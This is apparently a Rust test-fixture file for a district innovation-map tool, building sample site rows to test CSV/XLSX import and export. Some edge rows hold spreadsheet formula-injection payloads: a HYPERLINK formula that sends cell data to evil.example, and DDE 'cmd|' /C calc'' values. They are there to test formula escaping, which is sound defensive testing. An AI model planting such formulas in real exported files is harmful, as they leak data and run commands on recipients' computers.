//! Shared fixtures for the format tests: the embedded reference data, the default dataset and
//! synthetic edge cases.
#![allow(dead_code)]

use atlas_core::dataset::{Reference, SITES_CSV};
use atlas_core::export::ExportMeta;
use atlas_core::import::{parse_sites, FileFormat};
use atlas_core::{Column, Context, Site, SiteFilter};
use std::collections::HashMap;
use std::sync::OnceLock;

pub fn today() -> chrono::NaiveDate {
    chrono::NaiveDate::from_ymd_opt(2026, 11, 26).expect("valid date")
}

pub fn reference() -> &'static Reference {
    static R: OnceLock<Reference> = OnceLock::new();
    R.get_or_init(|| Reference::embedded().expect("embedded reference data parses"))
}

pub fn ctx() -> Context<'static> {
    reference().context(today())
}

pub fn meta() -> ExportMeta {
    let filter = SiteFilter::parse_query("category=carrier_platform&chain=petrochemical&q=石化")
        .expect("valid filter");
    let at = chrono::DateTime::parse_from_rfc3339("2026-11-26T10:30:00+08:00").expect("valid time");
    ExportMeta::new(
        "茂南区科技创新要素资源布局图 · 载体平台",
        &filter,
        at,
        "Innovation Atlas 默认数据集（data/sites.csv）",
    )
}

pub fn default_sites() -> Vec<Site> {
    let parsed = parse_sites(SITES_CSV.as_bytes(), FileFormat::Csv, &ctx(), None)
        .expect("default dataset reads");
    assert!(parsed.errors.is_empty(), "{:#?}", parsed.errors);
    parsed.sites.into_iter().map(|(_, s)| s).collect()
}

/// Rows of edge cases, as `(column key, value)` pairs.
pub fn edge_rows() -> Vec<Vec<(&'static str, &'static str)>> {
    let base = |id, name| {
        vec![
            ("id", id),
            ("name_zh", name),
            ("category", "carrier_platform"),
            ("kind", "industrial_park"),
            ("source", "《茂名市茂南区科技创新“十四五”规划》测试行"),
        ]
    };
    let mut rows = Vec::new();
    // A polygon site with a hole.
    let mut r = base("edge-polygon", "茂南石化工业园（边界）");
    r.extend([
        ("polygon_wkt", "POLYGON((110.85 21.62,110.88 21.62,110.88 21.65,110.85 21.65,110.85 21.62),(110.86 21.63,110.865 21.63,110.865 21.635,110.86 21.63))"),
        ("location_precision", "street"),
        ("chains", "petrochemical;petrochemical.refining"),
        ("area_m2", "1234567.5"),
        ("available_area_m2", "0"),
    ]);
    rows.push(r);
    // A GCJ-02 coordinate, converted on entry with its original kept.
    let mut r = base("edge-gcj", "高德坐标的孵化器");
    r.extend([
        ("kind", "incubator"),
        ("lon", "110.9254321"),
        ("lat", "21.6735123"),
        ("crs", "gcj02"),
        ("location_precision", "building"),
        ("location_source", "高德地图 POI（GCJ-02）"),
    ]);
    rows.push(r);
    // A BD-09 coordinate.
    let mut r = base("edge-bd", "百度坐标的众创空间");
    r.extend([
        ("kind", "maker_space"),
        ("lon", "110.93"),
        ("lat", "21.68"),
        ("crs", "bd09"),
        ("location_precision", "street"),
    ]);
    rows.push(r);
    // A partner far away: negative longitude; a phone with +86; a website.
    let mut r = base("edge-partner-ny", "纽约合作大学");
    r.extend([
        ("name_en", "New York Partner University"),
        ("category", "innovation_resource"),
        ("kind", "university"),
        ("scope", "partner"),
        ("level", "national"),
        ("lon", "-73.9"),
        ("lat", "40.7128"),
        ("location_precision", "building"),
        ("phone", "+86 668 2345678"),
        ("website", "https://example.edu/合作"),
        ("established", "1831"),
    ]);
    rows.push(r);
    // Names that a spreadsheet would run as formulas.
    let mut r = base(
        "edge-eq",
        "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"点击查看\")",
    );
    r.extend([
        ("town_code", "440902002"),
        ("contact", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ]);
    rows.push(r);
    let mut r = base("edge-at", "@SUM(1+1)");
    r.extend([
        ("address", "-2+3+cmd|' /C calc'!A0"),
        ("town_name", "河东街道"),
    ]);
    rows.push(r);
    let mut r = base("edge-minus", "-1+1 测试企业");
    r.extend([
        ("category", "key_enterprise"),
        ("kind", "high_tech_enterprise"),
        ("status", "planned"),
        ("notes", "+SUM(A1:A2)"),
        ("phone", "-"),
    ]);
    rows.push(r);
    // A name that already starts with a quote, and a note with tab, newline and quotes.
    let mut r = base("edge-quote", "'=已经带引号");
    r.extend([
        (
            "notes",
            "第一行\t制表符\n第二行 \"双引号\" 和 '单引号'；逗号, 分号; 结束",
        ),
        ("source_quote", "“十四五”期间，建设“一园多区”"),
        ("status", "under_construction"),
        ("verified_at", "2026-10-01"),
        ("updated_at", "2026-11-01"),
    ]);
    rows.push(r);
    // Chinese everywhere, vocabulary given as Chinese labels, unknown location (fallback).
    let mut r = base("edge-zh", "茂南区中文测试园区");
    r.extend([
        ("name_en", "中文英文名"),
        ("category", "载体平台"),
        ("kind", "科技园"),
        ("level", "省级"),
        ("status", "运营中"),
        ("scope", "区内"),
        ("address", "广东省茂名市茂南区油城五路"),
        ("contact", "张三（科技局）"),
        ("town_name", "河西街道"),
    ]);
    rows.push(r);
    rows
}

/// The edge rows as an English-header CSV (all columns), each text guarded as export does, so
/// that import reads the values exactly as written in [`edge_rows`].
pub fn edge_csv() -> String {
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(Column::ALL.iter().map(|c| c.key()))
        .expect("write");
    for row in edge_rows() {
        let m: HashMap<&str, &str> = row.into_iter().collect();
        w.write_record(Column::ALL.iter().map(|c| {
            atlas_core::export::guard_formula(m.get(c.key()).copied().unwrap_or("")).into_owned()
        }))
        .expect("write");
    }
    String::from_utf8(w.into_inner().expect("flush")).expect("utf8")
}

pub fn edge_sites() -> Vec<Site> {
    let parsed =
        parse_sites(edge_csv().as_bytes(), FileFormat::Csv, &ctx(), None).expect("edge rows read");
    assert!(parsed.errors.is_empty(), "{:#?}", parsed.errors);
    parsed.sites.into_iter().map(|(_, s)| s).collect()
}

/// The default dataset followed by the edge cases.
pub fn all_sites() -> Vec<Site> {
    let mut v = default_sites();
    v.extend(edge_sites());
    v
}

/// A minimal valid row in English headers for error tests: header line and one data line.
pub const VALID_HEADER: &str = "id,name_zh,category,kind,source,lon,lat,location_precision,chains";
pub const VALID_ROW: &str =
    "ok-site,测试站点,carrier_platform,incubator,测试来源,110.92,21.67,building,petrochemical";

/// Reads one file entry of a ZIP archive (an XLSX) as text.
pub fn zip_entry(bytes: &[u8], name: &str) -> String {
    use std::io::Read;
    let mut z = zip::ZipArchive::new(std::io::Cursor::new(bytes)).expect("zip");
    let mut f = z.by_name(name).expect("entry");
    let mut s = String::new();
    f.read_to_string(&mut s).expect("read");
    s
}
